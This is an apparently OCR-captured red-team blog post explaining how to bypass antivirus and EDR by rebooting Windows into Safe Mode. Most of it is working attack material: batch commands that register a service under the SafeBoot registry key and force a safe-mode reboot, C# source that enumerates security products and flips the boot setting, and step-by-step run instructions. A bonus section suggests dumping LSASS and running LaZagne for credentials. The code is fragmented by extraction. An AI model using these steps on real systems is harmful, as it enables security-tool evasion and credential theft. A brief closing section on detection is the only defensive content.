Bypass AV/EDR using Safe Mode

Bypass AV/EDR using Safe Mode during your Red Teaming experiments.
Several pieces of malware are using EDR/AV in safe mode to execute the malicious code and evade detection.

Safe mode scripts

sc create CheckSafeMode binpath= "C:\Users\Public\CheckSafeMode.exe" type= own start= auto DisplayName= "CheckSafeMode"
reg add "HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal\CheckSafeMode"
reg add "HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal\CheckSafeMode" /f /v "Service"
bcdedit /set {current} safeboot Minimal
shutdown /r /f /t 00
sc delete CheckSafeMode
reg delete "HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\SafeBoot\Minimal\CheckSafeMode" /fusing System;
using System.Collections.Generic;
using System.Linq;
using System.Diagnostics;
using System.Runtime.InteropServices;
using System.Text;
using System.Threading.Tasks;
using System.Management;
namespace CheckSafeMode
class Program
internal constint SM_CLEANBOOT = 67;
internal static extern int GetSystemMetrics(int smIndex);
static void Main(string[] args)
var IsSafeMode = GetSystemMetrics(SM_CLEANBOOT);
bool safeModeActive = Convert.ToBoolean(IsSafeMode);
if (safeModeActive)
ManagementObjectSearcher wmiData = new ManagementObjectSearcher(@"root\SecurityCenter2", "SELECT * FROM AntiVirusProduct");
ManagementObjectCollection data = wmiData.Get();
foreach (ManagementObject virusChecker in data)
var AvName = virusChecker["displayName"];
var xstate = virusChecker["productState"];var f = Convert.ToInt32(xstate);
var zz = f.ToString("X").PadLeft(6, '0');
var StatusOfAV = "";
var y = zz.Substring(2, 2);
switch (y)
case "00":
StatusOfAV = "OFF";
case "01":
StatusOfAV = "Exipired";
case "10":
StatusOfAV = "ON";
case "11":StatusOfAV = "Snoozed";
StatusOfAV = "Unknown";
string text = String.Format("In SafeBoot Mode = {0} AVInstalled = {1} Status = {2} ", Convert.ToBoolean(IsSafeMode).ToString(), AvName.ToString(), StatusOfAV);
System.IO.File.WriteAllText(@"C:\Users\Public\SafeBoot.txt", text);
BcdStoreAccessor b = new BcdStoreAccessor();
//some stuff came from here
public static bool AntivirusInstalled()
string wmipathstr = @"\\" + Environment.MachineName + @"\root\SecurityCenter2";
ManagementObjectSearcher searcher = new ManagementObjectSearcher(wmipathstr, "SELECT * FROM AntivirusProduct");
ManagementObjectCollection instances = searcher.Get();
return instances.Count > 0;
catch (Exception e)
return false;
public class BcdStoreAccessor
public const int BcdOSLoaderInteger_SafeBoot = 0x25000080;
public enum BcdLibrary_SafeBoot
SafemodeMinimal = 0,
SafemodeNetwork = 1,
SafemodeDsRepair = 2
private ConnectionOptions connectionOptions;
private ManagementScope managementScope;
private ManagementPath managementPath;
public BcdStoreAccessor()
connectionOptions = new ConnectionOptions();
connectionOptions.Impersonation = ImpersonationLevel.Impersonate;
connectionOptions.EnablePrivileges = true;
managementScope = new ManagementScope("root\\WMI", connectionOptions);
managementPath = newManagementPath("root\\WMI:BcdObject.Id=\"{fa926493-6f1c-4193-a414-58f0b2456d1e}\",StoreFilePath=\"\"");
public void SetSafeboot()
ManagementObject currentBootloader = new ManagementObject(managementScope, managementPath, null);
currentBootloader.InvokeMethod("SetIntegerElement", new object[] { BcdOSLoaderInteger_SafeBoot, BcdLibrary_SafeBoot.SafemodeMinimal });
public void RemoveSafeboot()
ManagementObject currentBootloader = new ManagementObject(managementScope, managementPath, null);
currentBootloader.InvokeMethod("DeleteElement", new object[] { BcdOSLoaderInteger_SafeBoot });
public class Shutdown
public static void Restart()
StartShutDown("-f -r -t 5");
/// <summary>
/// Log off.
/// </summary>
public static void LogOff()
/// <summary>
/// Shutting Down Windows
/// </summary>
public static void Shut()
StartShutDown("-f -s -t 5");
private static void StartShutDown(string param)
ProcessStartInfo proc = new ProcessStartInfo();
proc.FileName = "cmd";
proc.WindowStyle = ProcessWindowStyle.Hidden;
proc.Arguments = "/C shutdown " + param;

Step by step

Initially, the scripts need to be uploaded into the target machine: C:\users\public
In short, the CheckSafeMode.cs script will try to identify the security AV/EDR, check if it is running, and put the machine in save mode and, restart the machine.
Here, how we can compile the CS file:
:> C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc CheckSafeMode.cs
After compiling the file, we need to run the DoIt.bat file as administration rights. This script will createthe service and modify some registry keys that are essential to run the service in safe mode and boot it into safe mode.
As observed above, after add the registry keys the machine is rebooted. When it comes up, it runs the exe file we have compiled to check if the security tools are running, removes safeboot option and then restarts. It takes about 30 seconds to finish.

We got it!

After it reboots out of safe mode, we can log back in and see the file it created with the output of the exe.
This lets us know about the security product and if it is running. The results below are for defender. EDR vendor results are much more interesting.

Removing safe mode service (house cleaning)

Finally, we can run undoit.bat to remove the service we have created and also remove the registry key.

Bonus: LSASS dump + LaZagne

Of course, we can use this technique to dump LSASS in safe mode, LaZagne, BloodHound ingestorand everything you want/need.

Detection / DefensesLooking for changes in the registry:
Consider checking if the EDR runs in safe mode. If it doesn’t, check with your vendor to see what they recommend todetect this technique.